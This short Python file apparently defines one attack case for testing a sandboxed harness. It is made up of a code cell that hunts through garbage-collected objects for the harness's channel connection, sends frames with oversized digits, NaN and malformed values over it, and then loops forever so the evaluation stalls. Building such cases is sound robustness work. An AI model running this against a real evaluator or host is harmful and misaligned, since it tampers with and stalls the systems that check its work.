"""Send integers of a hundred thousand digits and numbers beyond all numbers."""

from attack import Attack

ATTACK = Attack(
    gains="time",
    cells={
        "distribution_table": """
def channel():
    import gc
    for value in gc.get_objects():
        if type(value).__name__ == "Channel":
            return value.connection

def distribution_table(logits, temperatures):
    import struct
    wire = channel()
    digits = b"9" * 100_000
    for payload in (digits, b"-1e" + digits, b"NaN", b'["int", "' + digits + b'"]'):
        text = b'[1, "value", ["list", [' + payload + b', ["list", []]]]]'
        if wire:
            wire.sendall(struct.pack("<4sII", b"TKG1", len(text), 0) + text)
    while True: pass
""",
    },
)
